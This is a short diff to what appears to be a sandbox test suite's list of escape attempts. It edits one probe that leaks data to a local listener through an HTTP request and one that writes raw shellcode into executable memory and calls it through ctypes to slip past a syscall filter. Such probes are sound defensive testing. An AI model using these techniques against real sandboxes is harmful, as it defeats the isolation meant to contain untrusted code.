@@ -294,7 +294,7 @@ ATTACKS = (
         """
         import urllib.request
         from target import PORT
-        def f(x): urllib.request.urlopen(f"http://127.0.0.1:{PORT}/?seen={x.tolist()}", timeout=0.5)
+        def f(x): urllib.request.urlopen(f"http://127.0.0.1:{PORT}/?seen={x.sum()}", timeout=0.5)
         """,
         shows=BYTE,
     ),
@@ -407,7 +407,8 @@ ATTACKS = (
             code = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
             # getpid by int 0x80: mov eax, 20; int 0x80; ret
             code.write(bytes.fromhex("b814000000cd80c3"))
-            call = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
+            start = ctypes.addressof(ctypes.c_char.from_buffer(code))
+            call = ctypes.CFUNCTYPE(ctypes.c_long)(start)
             if call() > 0:
                 proof("a call the filter does not know")
             raise OSError("refused")
